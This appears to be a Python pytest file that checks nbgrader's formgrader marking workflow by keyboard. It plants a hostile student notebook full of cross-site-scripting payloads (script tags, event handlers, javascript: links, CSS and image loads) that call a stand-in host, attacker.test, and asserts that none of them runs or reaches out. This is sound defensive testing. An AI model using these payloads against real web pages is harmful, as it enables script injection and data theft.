"""A marker's session: nbgrader's formgrader in a browser, over the folder that `course grade` made and marks again."""

from __future__ import annotations

import os
import re
import shlex
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook
from playwright.sync_api import Page, Request, Route, expect

from processes import die_with_the_tests
from small_cohort import environment, fill, grade, released, table
from variants_e02 import BY_HAND, FULL, RIGHT

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="only Linux can sandbox")

PATIENCE = 120
SLOW = PATIENCE * 1000
NOTEBOOK = "E02-chart-pack"
COMMENT = "Say what you would do <b>next</b> & why."
RUN = "document.title = 'RAN'; fetch('http://attacker.test/stolen')"
HTML = (
    f"<script>{RUN}</script><img src=x onerror=\"{RUN}\"><svg onload=\"{RUN}\"></svg>"
    f"<iframe src='http://attacker.test/frame'></iframe><img src='http://attacker.test/pixel.png'>"
    f"<a href=\"javascript:{RUN}\" autofocus onfocus=\"{RUN}\">my chart</a>"
    "<style>@import 'http://attacker.test/style.css'; body { background: url(http://attacker.test/back.png) }</style>"
    "<link rel=stylesheet href='http://attacker.test/link.css'><div style='background:url(http://attacker.test/div.png)'>d</div>"
    "<form action='/formgrader/api/grade/x'><input id='interpretation' class='score tabbable'></form>"
)  # fmt: skip
PICTURES = (
    "![x](http://attacker.test/one.png) !![x](http://attacker.test/two.png) !<!-- -->[x](http://attacker.test/three.png) "
    "![x][far]\n\n[far]: http://attacker.test/four.png"
)
MATHJAX = """
window.MathJax = {Hub: {Config() {}, Queue() {}, Startup: {signal: {
    Interest(tell) { window.addEventListener("load", () => setTimeout(() => tell("End"), 0)); }}}}};
"""
"""In place of the one that nbgrader's page fetches; the page waits for it before it listens to keys."""


def answers() -> nbformat.NotebookNode:
    return fill(released("E02"), RIGHT.cells)


def hostile() -> nbformat.NotebookNode:
    notebook = answers()
    code = (
        "from IPython.display import HTML, Javascript, Markdown, SVG, display\n"
        f"hostile = {HTML!r}\n"
        "display(HTML(hostile)); display(Markdown(hostile + ' !![x](http://attacker.test/out.png)')); display(Javascript(%r))\n"
        % RUN
        + f'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="x"><script>{RUN}</script></svg>\'))\n'
        "display({'text/latex': '$$' + hostile + '$$', 'text/html': hostile}, raw=True)\n"
        "for kind in ('text/latex', 'image/png', 'image/jpeg', 'text/plain', 'application/json'):\n"
        "    display({kind: '\">' + hostile}, metadata={kind: {'width': '1\"' + hostile, 'alt': '\"' + hostile}}, raw=True)\n"
        "there = {'filenames': {'image/png': 'http://attacker.test/named.png'}}\n"
        "display({'image/png': 'iVBORw0KGgo='}, metadata=there, raw=True)\n"
        "print(hostile)\n"
        "raise ValueError(hostile)"
    )
    notebook.cells.insert(1, nbformat.v4.new_code_cell(code))
    for place in range(len(notebook.cells), 1, -3):
        notebook.cells.insert(place, nbformat.v4.new_markdown_cell(f"My answer. {HTML}\n\n{PICTURES}"))
    raw = nbformat.v4.new_raw_cell(
        HTML + PICTURES, metadata={"raw_mimetype": "text/html", "format": "text/html"}
    )
    notebook.cells.insert(2, raw)
    for name in BY_HAND:
        cell = next(one for one in notebook.cells if one.metadata.get("nbgrader", {}).get("grade_id") == name)
        cell.source += HTML
    return notebook


def flagged() -> nbformat.NotebookNode:
    notebook = answers()
    notebook.cells.append(nbformat.v4.new_code_cell("import os\nos.environ"))
    return notebook


@dataclass
class Session:
    """A marking folder, the server that the summary's command started, and what a browser asked for."""

    handed_in: Path
    marking: Path
    address: str
    asked: list[str]

    def learner(self, page: Page) -> str:
        """Whose submission is open."""
        number = re.search(r"/submissions/(\w+)", page.url)[1]
        with Gradebook(f"sqlite:///{self.marking / 'gradebook.db'}") as gradebook:
            return gradebook.find_submission_notebook_by_id(number).student.id


@pytest.fixture(scope="module")
def session(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Session]:
    base = tmp_path_factory.mktemp("marker")
    handed_in, marking = base / "in", base / "the marking"
    handed_in.mkdir()
    for learner, notebook in (("Ann", answers()), ("Mal", hostile()), ("Zed", flagged())):
        nbformat.write(notebook, handed_in / f"{learner}.ipynb")
    done = grade(handed_in, marking, assignment="E02")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Zed: Code box" in done.stdout, "flagged"
    printed = done.stdout[done.stdout.index("To mark what is waiting") :].splitlines()[1:3]
    where, command = (shlex.split(line) for line in printed)
    assert where == ["cd", str(marking)]
    with closing(socket.socket()) as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    command += [
        f"--ServerApp.port={port}", "--ServerApp.port_retries=0", "--IdentityProvider.token=secret",
        *(["--allow-root"] if os.geteuid() == 0 else []),
    ]  # fmt: skip
    server = subprocess.Popen(
        command,
        cwd=where[1],
        env={**environment(marking), "BROWSER": "/bin/true %s"},  # the test brings its own
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        preexec_fn=die_with_the_tests,
    )
    address = f"http://127.0.0.1:{port}"
    try:
        until = time.monotonic() + PATIENCE
        while True:
            try:
                urllib.request.urlopen(f"{address}/api/status?token=secret").close()
                break
            except OSError:
                assert server.poll() is None, "the server stopped"
                assert time.monotonic() < until, "the server did not start"
                time.sleep(0.3)
        yield Session(handed_in, marking, address, [])
    finally:
        server.terminate()
        server.wait(PATIENCE)


def open_page(session: Session, browser, *, online: bool) -> Page:
    context = browser.new_context()
    context.set_default_timeout(SLOW)

    def answer(route: Route, request: Request) -> None:
        session.asked.append(request.url)
        if request.url.startswith(session.address):
            route.continue_()
        elif online and "mathjax" in request.url:
            route.fulfill(content_type="text/javascript", body=MATHJAX)
        else:
            route.abort()

    context.route("**/*", answer)
    page = context.new_page()
    page.goto(f"{session.address}/?token=secret")
    return page


def other_hosts(session: Session) -> set[str]:
    own = (
        session.address,
        "data:",
        "blob:",
        "about:",
        "https://cdnjs.cloudflare.com/",
    )  # nbgrader's own MathJax
    return {url for url in session.asked if not url.startswith(own)}


def press_until_at(page: Page, name: str, key: str = "Tab") -> None:
    for _ in range(200):
        if page.evaluate("document.activeElement && document.activeElement.id") == name:
            return
        page.keyboard.press(key)
    pytest.fail(f"no keys lead to {name}")


def saved(page: Page, kind: str):
    return page.expect_response(
        lambda response: f"/formgrader/api/{kind}/" in response.url and response.request.method == "PUT"
    )


def test_a_marker_scores_and_comments_by_keyboard_from_one_submission_to_the_next(
    session: Session, browser
) -> None:
    before = table(session.marking, "E02")
    page = open_page(session, browser, online=True)
    assert "/formgrader/" in page.url, "the command opens formgrader itself"
    page.get_by_role("link", name="Manual Grading").click()
    page.get_by_role("link", name="E02", exact=True).click()
    page.get_by_role("link", name=NOTEBOOK).click()
    rows = page.get_by_role("link", name=re.compile(r"Submission #\d"))
    rows.first.wait_for()
    assert rows.count() == 3
    assert page.get_by_text("Ann").filter(visible=True).count() == 0, (
        "marking is blind until one asks for the name"
    )
    rows.first.click()
    scored = {}
    for number in range(3):
        page.wait_for_function(
            "typeof formgrader !== 'undefined' && formgrader.loaded && formgrader.grades.loaded"
        )
        page.wait_for_function("formgrader.comments.loaded")
        assert page.title() != "RAN"
        learner = session.learner(page)
        press_until_at(page, "interpretation")
        page.keyboard.type(str(11 + number))
        with saved(page, "grade"):
            press_until_at(page, "interpretation-comment")
        page.keyboard.type(f"{COMMENT} For {learner}.")
        scored[learner] = str(11 + number)
        page.wait_for_timeout(500)  # for what a hostile page might do late
        assert page.title() != "RAN"
        before_next = re.compile(re.search(r"/submissions/\w+", page.url)[0])
        with saved(page, "comment"):
            page.keyboard.press("Control+." if number < 2 else "Escape")
        if number < 2:
            expect(page).not_to_have_url(before_next, timeout=SLOW)
    assert set(scored) == {"Ann", "Mal", "Zed"}
    page.context.close()
    assert other_hosts(session) == set()

    again = grade(session.handed_in, session.marking, assignment="E02")
    assert again.returncode == 0, again.stderr
    after = table(session.marking, "E02")
    for learner, row in after.items():
        assert row["status"] == "unchanged"
        assert row["interpretation"] == scored[learner]
        assert float(row["total"]) == float(before[learner]["total"]) + float(scored[learner])
        assert row["manual marking outstanding"] == "yes", "two more tasks wait"
        page_text = (session.marking / "feedback" / learner / "E02" / f"{NOTEBOOK}.html").read_text(
            encoding="utf-8"
        )
        assert f"For {learner}." in page_text
        assert "<b>next</b>" not in page_text or "<script" not in page_text


def test_the_hostile_learners_feedback_page_asks_nobody_for_anything(session: Session, browser) -> None:
    asked: dict[str, str | None] = {}
    page = browser.new_page()
    page.on("request", lambda request: asked.setdefault(request.url))
    page.on("requestfailed", lambda request: asked.update({request.url: request.failure}))
    for path in (session.marking / "feedback" / "Mal").rglob("*.html"):
        page.goto(path.as_uri())
        page.wait_for_timeout(500)
        assert page.title() != "RAN"
    page.close()
    assert asked
    got_out = {
        url: how for url, how in asked.items() if not url.startswith(("file:", "data:")) and how != "csp"
    }
    assert got_out == {}


def test_without_the_internet_scores_can_still_be_given_by_keyboard(session: Session, browser) -> None:
    page = open_page(session, browser, online=False)
    with Gradebook(f"sqlite:///{session.marking / 'gradebook.db'}") as gradebook:
        number = gradebook.find_submission_notebook(NOTEBOOK, "E02", "Zed").id
    page.goto(f"{session.address}/formgrader/submissions/{number}/")
    page.wait_for_function("formgrader.grades && formgrader.grades.loaded")
    press_until_at(page, "charter")
    page.keyboard.type("9")
    with saved(page, "grade"):
        page.keyboard.press("Tab")
    press_until_at(page, "charter_extra_credit")
    page.keyboard.type("2")
    with saved(page, "grade"):
        page.keyboard.press("Tab")
    page.context.close()
    assert other_hosts(session) == set()
    before = table(session.marking, "E02")["Zed"]
    again = grade(session.handed_in, session.marking, assignment="E02")
    assert again.returncode == 0, again.stderr
    row = table(session.marking, "E02")["Zed"]
    assert row["charter"] == "11"
    assert float(row["total"]) == float(before["total"]) + 11


def test_a_new_hand_in_keeps_the_markers_score_and_asks_to_look_again(session: Session) -> None:
    before = table(session.marking, "E02")["Ann"]
    assert before["interpretation"] != ""
    notebook = answers()
    notebook.cells.append(nbformat.v4.new_markdown_cell("On reflection, a longer charter."))
    nbformat.write(notebook, session.handed_in / "Ann.ipynb")
    done = grade(session.handed_in, session.marking, assignment="E02")
    assert done.returncode == 0, done.stderr
    rows = table(session.marking, "E02")
    assert rows["Ann"]["status"] == "marked"
    assert {rows[other]["status"] for other in ("Mal", "Zed")} == {"unchanged"}
    assert rows["Ann"]["manual marking outstanding"] == "yes"
    with Gradebook(f"sqlite:///{session.marking / 'gradebook.db'}") as gradebook:
        given = gradebook.find_grade("interpretation", NOTEBOOK, "E02", "Ann")
        assert given.manual_score == float(before["interpretation"])
        assert given.needs_manual_grade
        assert gradebook.find_submission("E02", "Ann").score == sum(FULL.values()) + given.manual_score
    page = (session.marking / "feedback" / "Ann" / "E02" / f"{NOTEBOOK}.html").read_text(encoding="utf-8")
    assert "For Ann." in page
